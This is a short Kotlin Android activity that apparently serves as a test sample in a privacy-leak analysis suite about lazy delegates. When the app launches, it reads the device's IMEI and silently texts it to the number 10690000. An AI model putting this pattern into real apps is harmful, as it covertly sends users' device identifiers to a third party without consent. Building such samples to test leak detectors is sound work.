package cn.privlens.suite.lazy_delegate

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager

class Main : Activity() {
    private val id by lazy { (getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).deviceId }
    private val name by lazy { "名" }
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null)
    }
}
